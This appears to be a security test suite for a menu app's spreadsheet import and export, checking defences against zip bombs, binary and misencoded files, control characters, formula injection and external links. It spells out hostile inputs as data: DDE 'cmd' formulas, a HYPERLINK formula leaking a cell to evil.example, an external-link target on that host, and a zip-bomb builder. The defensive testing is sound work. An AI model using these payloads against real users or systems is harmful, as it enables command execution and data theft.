/**
 * The spreadsheet import as an attacker uses it, with "nothing stored" checked on every row of the
 * database (a digest of every table before and after), and the export of texts that a spreadsheet
 * program could take for formulas (OWASP's CSV injection).
 *
 * Formula-looking texts (`=cmd|' /C calc'!A0`, `+`, `-`, `@` first) are menu texts like any other:
 * the import stores them as written (an item may well be called "-50% pizza"), and the export writes
 * them as string cells of the .xlsx, which spreadsheet programs show and never evaluate. The export
 * is .xlsx only: no CSV leaves the server, where such a text would be read as a formula.
 */
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { addresses, clubMembers, clubs, menus } from '#db/schema.ts';
import { findFullMenu } from '#modules/menus/queries.ts';
import { databaseFingerprint } from '#test/db-fingerprint.ts';
import { useTestApp } from '#test/harness.ts';
import { multipart, readWorkbook, xlsxOf } from './test-support.ts';
import { MAX_UNZIPPED_BYTES } from './zip-guard.ts';

const MiB = 1024 * 1024;

const FORMULA_TEXTS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+SUM(1+2)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+2)',
  '=1+1',
];

/** A CSV field, always quoted with quotes doubled. */
const field = (text: string) => `"${text.replaceAll('"', '""')}"`;
const csvOf = (rows: string[][]) => rows.map((row) => row.map(field).join(',')).join('\r\n');

/** A workbook whose parts `change` may rewrite, plus extra parts, zipped again. */
async function rewrittenXlsx(
  rows: ExcelJS.CellValue[][],
  change: (parts: Map<string, string>) => void,
  extra: Record<string, Buffer | string> = {},
) {
  const original = await JSZip.loadAsync(await xlsxOf(rows));
  const parts = new Map<string, string>();
  for (const [name, entry] of Object.entries(original.files))
    if (!entry.dir) parts.set(name, await entry.async('string'));
  change(parts);
  const zip = new JSZip();
  for (const [name, content] of parts) zip.file(name, content);
  for (const [name, content] of Object.entries(extra)) zip.file(name, content);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}

describe('hostile spreadsheet imports', () => {
  const t = useTestApp();
  let token = '';

  beforeAll(async () => {
    token = await t.signIn(t.demo.user);
  });

  function importFile(data: Buffer | string, filename: string, clubId = t.demo.clubId, contentType?: string) {
    const { payload, contentType: type } = multipart([
      { name: 'file', data, filename, ...(contentType ? { contentType } : {}) },
    ]);
    return t.call('importMenuFromExcel', { params: { clubId }, payload, contentType: type, token });
  }

  /** Expects a 400 with one of these codes, and every row of the database as it was. */
  async function refusedWithNothingStored(data: Buffer | string, filename: string, codes: string[]) {
    const before = await databaseFingerprint(t.app.db);
    const response = await importFile(data, filename);
    expect(response.statusCode, `${filename}: ${response.body.slice(0, 300)}`).toBe(400);
    expect(codes, filename).toContain(response.json().code);
    expect(await databaseFingerprint(t.app.db), filename).toEqual(before);
    return response.json() as {
      code: string;
      message: string;
      details?: { row?: number; column?: string; message: string }[];
    };
  }

  it('refuses a zip bomb .xlsx, a truncated one, an empty file and an oversize one', async () => {
    const bomb = await rewrittenXlsx([['section', 'name']], () => {}, {
      'xl/media/zeros.bin': Buffer.alloc(MAX_UNZIPPED_BYTES + 1024),
    });
    expect(bomb.length).toBeLessThan(MiB);
    await refusedWithNothingStored(bomb, 'bomb.xlsx', ['file_too_large']);

    const good = await xlsxOf([
      ['section', 'name', 'price'],
      ['Pizze', 'Margherita', 8],
    ]);
    for (const cut of [good.length - 22, Math.floor(good.length / 2), 30, 4]) {
      await refusedWithNothingStored(good.subarray(0, cut), `cut-at-${cut}.xlsx`, [
        'not_a_spreadsheet',
        'invalid_spreadsheet',
      ]);
    }
    await refusedWithNothingStored(Buffer.alloc(0), 'empty.xlsx', ['not_a_spreadsheet']);
    await refusedWithNothingStored('', 'empty.csv', ['not_a_spreadsheet']);
    const oversize = Buffer.concat([Buffer.from('section,name\n'), Buffer.alloc(5 * MiB + 1, 'a')]);
    await refusedWithNothingStored(oversize, 'big.csv', ['file_too_large']);
  });

  it('refuses a binary file named .csv or .xlsx', async () => {
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
      'base64',
    );
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200, 0)]);
    // without its byte-order mark, UTF-16 is valid UTF-8 with a NUL after every letter: not 8-bit text
    const utf16WithoutMark = Buffer.from('section,name\r\nPizze,Margherita\r\n', 'utf16le');
    const oldXls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('section,name')]);
    const controls = Buffer.from(Array.from({ length: 400 }, (_, index) => (index % 3 === 0 ? 0x01 : 0x41)));
    for (const [bytes, name] of [
      [png, 'menu.csv'],
      [elf, 'menu.csv'],
      [png, 'menu.xlsx'],
      [Buffer.from('%PDF-1.7\n%âãÏÓ\n'), 'menu.csv'],
      [utf16WithoutMark, 'menu.csv'],
      [oldXls, 'menu.csv'],
      [controls, 'menu.csv'],
    ] as const) {
      const refusal = await refusedWithNothingStored(bytes, name, ['not_a_spreadsheet']);
      expect(refusal.message, name).toBe(
        'This file is not a spreadsheet or a CSV text file: choose an .xlsx workbook or a .csv file.',
      );
    }
  });

  it('tells a text whose characters cannot be read apart from a file that is not text', async () => {
    const windows1252 = (text: string) => Buffer.from(text, 'latin1');
    for (const [bytes, name] of [
      // UTF-16 with its mark, but a high surrogate without its pair
      [Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x41, 0x00]), 'lone-surrogate.csv'],
      // UTF-8 and Windows-1252 in one file (two copies pasted together): "Caffè" in each
      [Buffer.concat([Buffer.from('section;name\nBar;Caffè\n'), windows1252('Bar;Caff\xe8\n')]), 'mixed.csv'],
      // a byte Windows-1252 does not define (0x81)
      [windows1252('section;name\nBar;Caff\x81\n'), 'undefined-byte.csv'],
      // a UTF-8 byte-order mark on bytes that are not UTF-8
      [Buffer.concat([Buffer.from('efbbbf', 'hex'), windows1252('section;name\nBar;Caff\xe8\n')]), 'bom.csv'],
    ] as const) {
      const refusal = await refusedWithNothingStored(bytes, name, ['unreadable_characters']);
      expect(refusal.message, name).toContain('CSV UTF-8');
    }
  });

  it('refuses 10,000-character cells, naming the row and column', async () => {
    const long = 'x'.repeat(10_000);
    const csv = csvOf([
      ['section', 'name', 'description'],
      ['Pizze', 'Margherita', 'Pomodoro'],
      ['Pizze', long, long],
      [long, 'Marinara', ''],
    ]);
    const refusal = await refusedWithNothingStored(csv, 'long.csv', ['invalid_spreadsheet']);
    const named = (refusal.details ?? []).map((detail) => `${detail.row}:${detail.column}`);
    expect(named).toEqual(expect.arrayContaining(['3:name', '3:description', '4:section']));
    // the answer names the problem without echoing the 10,000 characters back
    expect(JSON.stringify(refusal).length).toBeLessThan(5_000);

    const xlsx = await xlsxOf([
      ['section', 'name'],
      ['Pizze', long],
    ]);
    await refusedWithNothingStored(xlsx, 'long.xlsx', ['invalid_spreadsheet']);
  });

  it('refuses NUL and control characters in CSV and .xlsx cells', async () => {
    // a NUL in an 8-bit file is binary, not text: refused as a whole (see 'refuses a binary file')
    for (const bad of ['Pizza\u0007bell', '\u001b[31mred', 'Pizza\u007f', 'Pizza\u0085']) {
      const csv = csvOf([
        ['section', 'name'],
        ['Pizze', 'Margherita'],
        ['Pizze', bad],
      ]);
      const refusal = await refusedWithNothingStored(csv, 'control.csv', ['invalid_spreadsheet']);
      expect(refusal.details?.[0]).toMatchObject({ row: 3, column: 'name' });
    }
    // exceljs drops control characters when it writes, so the cells are written by hand: OOXML's
    // escape of a character (_x0001_, which Excel reads as U+0001) and XML character references
    for (const cell of ['Mar_x0001_gherita', 'Mar_x0000_gherita', 'Mar&#7;gherita', 'Mar&#x1b;gherita']) {
      const xlsx = await rewrittenXlsx(
        [
          ['section', 'name'],
          ['Pizze', 'Margherita'],
        ],
        (parts) => {
          const strings = parts.get('xl/sharedStrings.xml') ?? '';
          parts.set('xl/sharedStrings.xml', strings.replace('<t>Margherita</t>', `<t>${cell}</t>`));
        },
      );
      // OOXML's escape is read as the character and refused with its cell; a character
      // reference XML 1.0 forbids makes the file damaged
      await refusedWithNothingStored(xlsx, `control ${cell}.xlsx`, [
        'invalid_spreadsheet',
        'not_a_spreadsheet',
      ]);
    }
  });

  it('stores formula-looking texts as written and exports them as inert string cells', async () => {
    const csv = csvOf([
      ['section', 'name', 'description', 'notes', 'price text'],
      // (a price text holds at most 45 characters)
      ...FORMULA_TEXTS.map((text, index) => [
        index % 2 ? '=2+5' : 'Pizze',
        text,
        text,
        text,
        text.slice(0, 45),
      ]),
    ]);
    const response = await importFile(csv, 'formulas.csv');
    expect(response.statusCode, response.body).toBe(201);
    const menuId = response.json().menuId as number;
    const menu = await findFullMenu(t.app.db, t.demo.clubId, menuId);
    const items = menu?.sections.flatMap((section) => section.items) ?? [];
    // (in two sections: compared as sets)
    const sorted = [...FORMULA_TEXTS].sort();
    expect(items.map((item) => item.name).sort()).toEqual(sorted);
    expect(items.map((item) => item.description).sort()).toEqual(sorted);
    expect(menu?.sections.map((section) => section.name)).toContain('=2+5');

    const exported = await t.call('exportMenuToExcel', { params: { clubId: t.demo.clubId, menuId }, token });
    expect(exported.statusCode).toBe(200);
    const zip = await JSZip.loadAsync(exported.rawPayload);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheetXml).toBeDefined();
    // no formula anywhere, and no cell whose type would make a program evaluate or re-type it
    expect(sheetXml).not.toMatch(/<f[\s>]/);
    expect(sheetXml).not.toMatch(/t="(str|e)"/);
    const workbook = await readWorkbook(exported.rawPayload);
    const sheet = workbook.getWorksheet('Menu');
    let formulaTexts = 0;
    sheet?.eachRow((row) => {
      row.eachCell((cell) => {
        const value = cell.value;
        if (typeof value === 'string' && /^[=+\-@]/.test(value)) {
          formulaTexts++;
          expect(cell.type, value).toBe(ExcelJS.ValueType.String);
        }
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      });
    });
    expect(formulaTexts).toBeGreaterThanOrEqual(FORMULA_TEXTS.length * 3);

    // and the exported file imports back to the same texts
    const again = await importFile(exported.rawPayload, 'formulas-again.xlsx');
    expect(again.statusCode, again.body).toBe(201);
    const reimported = await findFullMenu(t.app.db, t.demo.clubId, again.json().menuId);
    expect(
      reimported?.sections
        .flatMap((section) => section.items)
        .map((item) => item.name)
        .sort(),
    ).toEqual(sorted);
  });

  it('reads an .xlsx with an external link by its saved values, keeping none of the link', async () => {
    const workbook = await rewrittenXlsx(
      [
        ['section', 'name', 'price'],
        ['Pizze', { formula: "'[1]Prices'!A1", result: 'Margherita' } as unknown as ExcelJS.CellValue, 8],
      ],
      (parts) => {
        const rels = parts.get('xl/_rels/workbook.xml.rels') ?? '';
        parts.set(
          'xl/_rels/workbook.xml.rels',
          rels.replace(
            '</Relationships>',
            '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
          ),
        );
        const book = parts.get('xl/workbook.xml') ?? '';
        parts.set(
          'xl/workbook.xml',
          book.replace(
            '</workbook>',
            '<externalReferences><externalReference r:id="rIdExt1"/></externalReferences></workbook>',
          ),
        );
      },
      {
        'xl/externalLinks/externalLink1.xml':
          '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>',
        'xl/externalLinks/_rels/externalLink1.xml.rels':
          '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="https://evil.example/prices.xlsx" TargetMode="External"/></Relationships>',
      },
    );
    const response = await importFile(workbook, 'linked.xlsx');
    expect(response.statusCode, response.body).toBe(201);
    const menuId = response.json().menuId as number;
    const menu = await findFullMenu(t.app.db, t.demo.clubId, menuId);
    expect(menu?.sections[0]?.items.map((item) => item.name)).toEqual(['Margherita']);
    const exported = await t.call('exportMenuToExcel', { params: { clubId: t.demo.clubId, menuId }, token });
    const names = Object.keys((await JSZip.loadAsync(exported.rawPayload)).files);
    expect(names.filter((name) => /externalLink/i.test(name))).toEqual([]);
    expect(exported.rawPayload.includes(Buffer.from('evil.example'))).toBe(false);
  });

  it('imports all or nothing: concurrent imports at the Freemium limit never leave half a menu', async () => {
    const [address] = await t.app.db
      .insert(addresses)
      .values({ line1: 'Via Roma 1', city: 'Roma', country: 'IT', postalCode: '00100' })
      .returning();
    const [club] = await t.app.db
      .insert(clubs)
      .values({
        name: 'Freemium Race',
        seats: 10,
        addressId: address?.id ?? 0,
        timeZone: 'Europe/Rome',
        companyName: 'Race srl',
        vatNumber: 'IT00743110157',
        plan: 'freemium',
      })
      .returning();
    const clubId = club?.id ?? 0;
    await t.app.db.insert(clubMembers).values({ clubId, userId: t.demo.user.id, role: 'owner' });
    const rows = [['section', 'name', 'price']];
    for (let index = 0; index < 300; index++) rows.push([`Section ${index % 7}`, `Item ${index}`, '5']);
    const csv = csvOf(rows);

    const answers = await Promise.all([0, 1, 2, 3].map(() => importFile(csv, 'race.csv', clubId)));
    const statuses = answers.map((answer) => answer.statusCode).sort();
    // Freemium allows two menus
    expect(statuses).toEqual([201, 201, 403, 403]);
    const created = await t.app.db.select({ id: menus.id }).from(menus).where(eq(menus.clubId, clubId));
    expect(created).toHaveLength(2);
    for (const { id } of created) {
      const menu = await findFullMenu(t.app.db, clubId, id);
      expect(menu?.sections).toHaveLength(7);
      expect(menu?.sections.flatMap((section) => section.items)).toHaveLength(300);
    }
  });
});
